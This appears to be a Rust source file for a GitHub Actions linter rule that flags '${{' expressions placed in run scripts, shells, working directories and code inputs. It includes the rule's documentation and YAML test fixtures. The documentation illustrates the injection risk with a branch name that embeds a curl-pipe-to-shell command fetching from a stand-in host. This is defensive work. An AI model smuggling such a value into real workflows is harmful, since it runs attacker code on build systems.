//! `run-no-expression`.

use crate::action::Catalogue;
use crate::check::{Check, Group, PlacedJob, PlacedStep, Rule, WorkflowFile};
use crate::diagnostic::{Diagnostics, Path, Place, Severity};
use crate::expression::opens_in;
use crate::workflow::Defaults;

pub(super) static RULE: Rule = Rule {
    code: "run-no-expression",
    group: Group::Injection,
    severity: Severity::Error,
    rejects: false,
    summary: "no expression stands in anything that is run as code",
    documentation: "\
## What it does
Refuses `${{` in `run:`, `shell:`, `working-directory:`, in their defaults, and in the inputs of actions
that are run as code (`script` of `actions/github-script`).

## Why
GitHub puts the value into the text before the shell reads it. A branch called `$(curl evil|sh)` is then a
command. Values in the environment are data. A folder is no code, but decides whose `package.json` or `Makefile` a script
meets, and nothing can look at it before.

## Example
```yaml
- run: echo \"${{ github.head_ref }}\"
```

## Instead
```yaml
- run: echo \"$HEAD_REF\"
  env:
    HEAD_REF: ${{ github.head_ref }}
```
",
    check: Check::Workflow(check),
};

fn check(file: &WorkflowFile<'_>, findings: &mut Diagnostics) {
    let mut judge = |owner: &Path, key: &str, text: &str| {
        if !opens_in(text) {
            return;
        }
        let path = owner.key(key);
        let last_close = text.rfind("}}").unwrap_or_default();
        for (start, _) in text.match_indices("${{") {
            let close = if start < last_close { text[start..].find("}}") } else { None };
            let length = close.map_or(text.len() - start, |close| close + 2);
            let place = Place::within(path.clone(), start..start + length);
            let is_folder = key == "working-directory";
            let (message, help) = if is_folder {
                (
                    "an expression here decides which files a script meets before anything can look at it",
                    "pass the value through `env:` and go there in the script",
                )
            } else {
                (
                    "an expression here becomes code before anything can quote it",
                    "pass the value through `env:` and read it as a variable",
                )
            };
            findings.push(RULE.finding(place, message).with_help(help));
        }
    };
    let mut judge_defaults = |owner: &Path, defaults: Option<&Defaults>| {
        let Some(defaults) = defaults else { return };
        let run = owner.key("defaults").key("run");
        for (key, text) in
            [("shell", &defaults.run.shell), ("working-directory", &defaults.run.working_directory)]
        {
            judge(&run, key, text.as_deref().unwrap_or_default());
        }
    };
    judge_defaults(&Path::root(), file.workflow.defaults.as_ref());
    for PlacedJob { place, job, .. } in file.jobs() {
        judge_defaults(place, job.defaults.as_ref());
    }
    for PlacedStep { place, step, .. } in file.steps() {
        for (key, text) in
            [("run", &step.run), ("shell", &step.shell), ("working-directory", &step.working_directory)]
        {
            judge(place, key, text.as_deref().unwrap_or_default());
        }
        if step.with.is_empty() {
            continue;
        }
        let slug = step.uses.as_ref().and_then(|uses| uses.slug()).unwrap_or_default();
        let code = Catalogue::get().code_inputs(slug);
        for (name, text) in &step.with {
            if code.iter().any(|own| own.eq_ignore_ascii_case(name)) {
                judge(&place.key("with"), name, text);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::check::fixture;

    #[test]
    fn scripts_shells_folders_and_code_inputs() {
        fixture::check(
            &RULE,
            "
on: push
jobs:
  a:
    defaults:
      run:
        shell: ${{ vars.SHELL }}
#              ^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
    steps:
      - run: |
          echo safe
          echo ${{ github.sha }} and ${{ inputs.x }}
#              ^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
#                                    ^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
      - run: a
        working-directory: x/${{ matrix.dir }}
#                            ^^^^^^^^^^^^^^^^^ error[run-no-expression]: decides which files a script meets
      - uses: actions/github-script@v8
        with:
          script: core.info('${{ github.ref }}')
#                            ^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
      - uses: appleboy/ssh-action@v1
        with: {script: 'deploy ${{ inputs.version }}'}
#                              ^^^^^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
      - uses: Azure/CLI@v2
        with: {inlineScript: 'az ${{ inputs.x }}'}
#                                ^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
      - uses: mikefarah/yq@v4
        with: {cmd: 'yq ${{ inputs.x }}'}
#                       ^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
",
        );
    }

    #[test]
    fn data_positions_pass() {
        fixture::check(
            &RULE,
            "
on: push
jobs:
  a:
    steps:
      - run: echo \"$X\" '$ {{ no }}'
        env: {X: '${{ github.head_ref }}'}
      - uses: actions/github-script@v8
        with: {github-token: '${{ github.token }}'}
      - uses: actions/checkout@v7
        with: {ref: '${{ inputs.ref }}'}
",
        );
    }
}
